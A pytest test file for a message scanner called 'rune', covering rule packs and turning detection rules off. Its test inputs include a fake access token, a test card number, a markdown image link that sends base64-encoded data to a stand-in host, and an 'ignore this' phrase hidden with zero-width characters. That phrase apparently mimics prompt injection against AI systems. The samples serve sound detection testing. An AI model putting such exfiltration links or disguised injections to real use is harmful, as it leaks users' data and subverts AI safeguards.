"""The rules in force are the shipped ones, those of the user's packs, less what is switched off by whichever way."""

from __future__ import annotations

from pathlib import Path

import pytest

from rune.errors import ConfigurationError, RuleError
from rune.scan.detectors.catalog import detector_rules
from rune.scan.engine import Engine
from rune.scan.packs import pack_rules, rules_in_force
from rune.scan.signatures import load_rules
from rune.types import Message

OWN = (Path(__file__).parent / "rules" / "ignore.yaml").read_text(encoding="utf-8")
SHIPPED = {rule.id for rule in load_rules()}


@pytest.fixture
def pack(tmp_path: Path) -> Path:
    (tmp_path / "own.yaml").write_text(OWN, encoding="utf-8")
    return tmp_path


def test_without_packs_the_shipped_rules_are_in_force() -> None:
    assert {rule.id for rule in rules_in_force(environment={}).in_force} == {rule.id for rule in load_rules().in_force}


def test_a_pack_stands_beside_the_shipped_rules(pack: Path) -> None:
    assert {rule.id for rule in rules_in_force([pack, str(pack)], environment={})} == SHIPPED | {"RUNE-INJ-900"}


@pytest.mark.parametrize(
    ("off", "environment"),
    [
        pytest.param(["RUNE-INJ-001"], {}, id="by argument"),
        pytest.param([], {"RUNE_DISABLE_RULES": "rune-inj-001"}, id="by environment"),
        pytest.param(["RUNE-INJ-001"], {"RUNE_DISABLE_RULES": "RUNE-INJ-900, RUNE-INJ-001"}, id="by both"),
    ],
)
def test_a_rule_is_switched_off(pack: Path, off: list[str], environment: dict[str, str]) -> None:
    rules = rules_in_force([pack], off, environment=environment)

    assert not rules["RUNE-INJ-001"].enabled
    assert rules["RUNE-INJ-900"].enabled is ("900" not in environment.get("RUNE_DISABLE_RULES", ""))


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        pytest.param("token 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", "RUNE-LEAK-005", id="a credential"),
        pytest.param("card 4111 1111 1111 1111", "RUNE-PII-001", id="personal data"),
        pytest.param("write to john.doe@acme.test", "RUNE-PII-004", id="an e-mail address"),
        pytest.param("![x](https://e.test/p.png?d=U2VjcmV0RGF0YUZvcllvdTEyMzQ1Njc4)", "RUNE-EXF-101", id="an address"),
        pytest.param("ig\u200bno\u200bre th\u200bis wo\u200brd", "RUNE-OBF-103", id="a disguise"),
    ],
)
def test_a_rule_of_a_detector_is_switched_off(text: str, rule: str) -> None:
    few = load_rules(Path(__file__).parent / "rules")
    on, off = few, few.without([rule], [known.id for known in detector_rules()])

    assert rule in {finding.rule for finding in Engine(rules=on, cache=None).scan(Message(text))}
    assert rule not in {finding.rule for finding in Engine(rules=off, cache=None).scan(Message(text))}
    assert on.digest != off.digest


def test_every_way_takes_rules_of_detectors() -> None:
    assert rules_in_force(off=["RUNE-PII-004"], environment={"RUNE_DISABLE_RULES": "rune-ext-101"}).off == {"RUNE-PII-004", "RUNE-EXT-101"}


@pytest.mark.parametrize("environment", [{}, {"RUNE_DISABLE_RULES": "RUNE-XXX-001"}], ids=["by argument", "by environment"])
def test_an_unknown_rule_is_an_error(environment: dict[str, str]) -> None:
    with pytest.raises(ConfigurationError, match="no rule is called `RUNE-XXX-001`"):
        rules_in_force(off=[] if environment else ["RUNE-XXX-001"], environment=environment)


def test_an_error_in_a_pack_names_file_line_and_value(pack: Path) -> None:
    (pack / "own.yaml").write_text(OWN.replace("high", "huge"), encoding="utf-8")

    with pytest.raises(RuleError) as caught:
        rules_in_force([pack], environment={})

    assert str(caught.value).startswith(f"{pack / 'own.yaml'}:4: `severity` is `huge`; use one of")


def test_a_missing_pack_is_named_once(tmp_path: Path) -> None:
    with pytest.raises(RuleError) as caught:
        pack_rules(tmp_path / "none")

    assert str(caught.value).startswith(f"{tmp_path / 'none'}: no such folder")


def test_a_pack_does_not_replace_a_shipped_rule(pack: Path) -> None:
    (pack / "own.yaml").write_text(OWN.replace("RUNE-INJ-900", "RUNE-INJ-001"), encoding="utf-8")

    with pytest.raises(RuleError, match=r"own.yaml: the id `RUNE-INJ-001` is already used by injection/RUNE-INJ-001.yaml"):
        rules_in_force([pack], environment={})
